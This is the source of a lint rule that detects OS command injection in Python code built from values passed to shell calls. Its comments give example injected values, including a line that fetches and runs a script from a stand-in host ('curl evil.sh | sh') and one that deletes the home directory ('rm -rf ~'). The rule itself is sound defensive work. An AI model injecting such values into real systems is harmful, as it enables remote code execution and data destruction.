/**
 * ## What it does
 * Finds shell commands built from values: `subprocess.run/call/check_call/check_output/Popen`
 * with `shell=True`, `subprocess.getoutput/getstatusoutput`, `os.system`, `os.popen` and
 * `asyncio.create_subprocess_shell`, when the command is not a constant (an f-string, `%`,
 * `.format()` or `+` with a value in it, or a variable that is not a literal).
 *
 * ## Why is this bad?
 * The shell reads the whole string as a program: a customer name like `'; curl evil.sh | sh; '`
 * pasted into it runs as a second command (OS command injection). An argument list without a
 * shell passes each value as one argument, whatever characters it holds.
 *
 * Not reported: a constant command — with nothing from outside in it there is nothing to inject,
 * so `shell=True` with a literal is left to code review; values quoted with `shlex.quote()`;
 * `subprocess.run([...])` without a shell; and tests.
 */
import type { Node } from 'web-tree-sitter';
import type { Rule } from '../../../model.js';
import type { PythonRule } from '../../rule.js';
import type { PythonFile } from '../python-file.js';
import {
  importedCallName,
  isBuildScript,
  isConstantText,
  isTruthyLiteral,
} from '../semantic/security-values.js';

const meta: Rule = {
  id: 'PBP210',
  name: 'shell-injection',
  tool: 'patterns',
  section: 'security',
  level: 'error',
  precision: 'high',
  summary: 'A shell command is built from values.',
  tags: ['security', 'external/cwe/cwe-78'],
  cwe: ['CWE-78'],
  securitySeverity: 9.3,
  docs: {
    what: 'Finds subprocess calls with shell=True, subprocess.getoutput, os.system, os.popen and asyncio.create_subprocess_shell whose command is not a constant: an f-string, %, .format() or + with a value in it, or a variable.',
    why: 'The shell reads the whole string as a program, so a value like "; rm -rf ~" pasted into it runs as another command. An argument list without a shell passes each value as a single argument, whatever it contains.',
    example:
      'subprocess.run(f"wkhtmltopdf --title \'{customer}\' {url} {out}", shell=True)\nos.system("convert " + upload_path + " out.png")',
    useInstead:
      'subprocess.run(["wkhtmltopdf", "--title", customer, url, out], check=True)\nsubprocess.run(["convert", upload_path, "out.png"], check=True)',
  },
};

/** Run a command through a shell only when `shell=` is true. */
const SHELL_OPTIONAL = /^subprocess\.(run|call|check_call|check_output|Popen)$/;
/** Always run their command through a shell. */
const SHELL_ALWAYS =
  /^(subprocess\.(getoutput|getstatusoutput)|os\.(system|popen)|posix\.system|commands\.(getoutput|getstatusoutput)|asyncio\.create_subprocess_shell|asyncio\.subprocess\.create_subprocess_shell)$/;
const SHELL_TAILS = new Set([
  'run',
  'call',
  'check_call',
  'check_output',
  'Popen',
  'getoutput',
  'getstatusoutput',
  'system',
  'popen',
  'create_subprocess_shell',
]);
/** The modules those functions come from. */
const SHELL_MODULES = ['subprocess', 'os', 'posix', 'commands', 'asyncio'];
/** Values made safe for a shell. */
const SHELL_QUOTING = /^(shlex\.(quote|join)|pipes\.quote)$/;

export const shellInjection: PythonRule = {
  kind: 'python',
  meta,
  // `run`/`call`/`Popen` go through a shell only with `shell=` (the keyword is in the call);
  // the others always do, and are anchored on their own name (aliases anchor as it).
  anchors: {
    call: ['shell', 'getoutput', 'getstatusoutput', 'system', 'popen', 'create_subprocess_shell'],
  },
  create({ file, report }) {
    // Every function checked resolves through the imports.
    if (
      file.isTest ||
      isBuildScript(file) ||
      !SHELL_MODULES.some((module) => file.importsModule(module))
    )
      return {};
    // The modules named in the text; asked only once a finding is in hand (a scan of every file
    // costs more than the anchors).
    let mentioned: boolean | undefined;
    const mentionsShell = (): boolean =>
      (mentioned ??=
        /subprocess|os\.(system|popen)|from os import|posix\.system|commands\.get|create_subprocess_shell/.test(
          file.text,
        ));
    return {
      call(node) {
        const callee = node.childForFieldName('function');
        // Cheap first: the function's own name, or a name imported under another one.
        if (
          !SHELL_TAILS.has(file.calleeTail(node) ?? '') &&
          !(callee?.type === 'identifier' && file.imports().has(callee.text))
        )
          return;
        const name = importedCallName(file, node);
        if (!name) return;
        let command: Node | null = null;
        if (SHELL_OPTIONAL.test(name)) {
          if (!isTruthyLiteral(file, file.keywordArgument(node, 'shell'))) return;
          command = file.positionalArguments(node)[0] ?? file.keywordArgument(node, 'args');
          // With shell=True and a list, only the first item is the command.
          const value = file.resolveValue(command);
          if (value && (value.type === 'list' || value.type === 'tuple'))
            command = value.namedChildren.find((c) => c?.type !== 'comment') ?? null;
        } else if (SHELL_ALWAYS.test(name)) {
          command =
            file.positionalArguments(node)[0] ??
            file.keywordArgument(node, 'cmd') ??
            file.keywordArgument(node, 'command');
        } else {
          return;
        }
        if (
          !command ||
          isConstantText(file, command, (value) => isShellQuoted(file, value)) ||
          !mentionsShell()
        )
          return;
        const how = describe(file, command);
        report({
          at: node,
          message: `${name.replace(/^.*\.(?=\w+\.\w+$)/, '')}() runs ${how} through a shell, so a value with ; or $( ) in it runs as a command; pass an argument list without a shell.`,
        });
      },
    };
  },
};

function isShellQuoted(file: PythonFile, node: Node): boolean {
  return node.type === 'call' && SHELL_QUOTING.test(importedCallName(file, node) ?? '');
}

function describe(file: PythonFile, command: Node): string {
  const value = file.resolveValue(command) ?? command;
  const where = value.id === command.id ? '' : ` (built on line ${file.spanOf(value).startLine})`;
  switch (value.type) {
    case 'string':
      return `a command built with an f-string${where}`;
    case 'binary_operator':
      return `a command built with ${value.childForFieldName('operator')?.type === '%' ? '% formatting' : 'string concatenation'}${where}`;
    case 'call':
      return value.childForFieldName('function')?.childForFieldName('attribute')?.text === 'format'
        ? `a command built with .format()${where}`
        : 'a computed command';
    default:
      return 'a command that is not a constant';
  }
}
